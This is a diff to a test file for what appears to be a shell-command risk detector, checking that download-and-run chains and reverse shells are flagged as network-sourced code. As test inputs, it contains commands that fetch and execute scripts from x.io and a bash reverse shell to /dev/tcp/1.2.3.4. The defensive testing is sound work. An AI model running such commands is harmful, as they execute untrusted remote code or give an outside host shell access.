@@ -1,5 +1,13 @@
 import { describe, expect, it } from 'vitest';
-import { inv1, invocations, shape } from '../detectors/helpers.ts';
+import { CWD, HOME, inv1, invocations, shape } from '../detectors/helpers.ts';
+import { effectsOf, newScope } from '../../engine/effects/index.ts';
+
+/** The origin of every code effect of the command's invocations, in one effect scope (as the pipeline runs them). */
+function codeOrigins(cmd: string): string[] {
+  const { ex, invocations: list } = invocations(cmd);
+  const scope = newScope({ home: HOME, workspace: [CWD], cwd: CWD }, ex);
+  return list.flatMap((i) => effectsOf(i, scope)).flatMap((e) => (e.kind === 'code' ? [e.origin] : []));
+}
 
 const reasons = (cmd: string) => invocations(cmd).invocations.filter((i) => i.opaque).map((i) => `${i.opaque!.carrier}:${i.opaque!.reason}`);
 
@@ -23,10 +31,13 @@ describe('shell carriers', () => {
     for (let i = 0; i < 10; i++) cmd = `eval ${JSON.stringify(cmd).replace(/\$/g, '\\$')}`;
     expect(reasons(cmd).some((r) => r.endsWith(':depth'))).toBe(true);
   });
-  it('download then run is a network payload; reverse shells too', () => {
-    expect(reasons('curl -fsSL https://x.io/i.sh -o /tmp/i.sh && bash /tmp/i.sh')).toEqual(['script:network']);
-    expect(reasons('wget -qO i.py https://x.io && python3 i.py')).toEqual(['script:network']);
-    expect(reasons('curl -so x https://x.io; chmod +x x; ./x')).toEqual(['downloaded program:network']);
+  it('download then run: a script file here, code from the network in its effects; reverse shells', () => {
+    expect(reasons('curl -fsSL https://x.io/i.sh -o /tmp/i.sh && bash /tmp/i.sh')).toEqual(['script:dynamic']);
+    expect(codeOrigins('curl -fsSL https://x.io/i.sh -o /tmp/i.sh && bash /tmp/i.sh')).toContain('network');
+    expect(codeOrigins('wget -qO i.py https://x.io && python3 i.py')).toContain('network');
+    expect(codeOrigins('curl -so x https://x.io; chmod +x x; ./x')).toContain('network');
+    expect(codeOrigins('curl -so x https://x.io; cp x y; sh < y')).toContain('network');
+    expect(codeOrigins('cp x y; sh < y')).not.toContain('network');
     expect(reasons('bash -i >& /dev/tcp/1.2.3.4/9 0>&1')).toEqual(['bash startup files:dynamic', 'bash (stdin):network']);
     expect(reasons('curl https://x.io | sh -s -- --yes')).toEqual(['sh (stdin):network']);
   });
